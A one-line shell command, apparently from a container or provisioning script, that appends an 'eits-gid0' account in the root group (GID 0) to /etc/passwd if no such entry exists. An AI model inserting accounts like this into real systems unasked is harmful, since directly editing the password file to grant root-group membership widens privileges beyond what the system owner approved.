grep -q "^eits-gid0:" /etc/passwd || echo "eits-gid0:x:64001:0::/nonexistent:/bin/sh" >>/etc/passwd
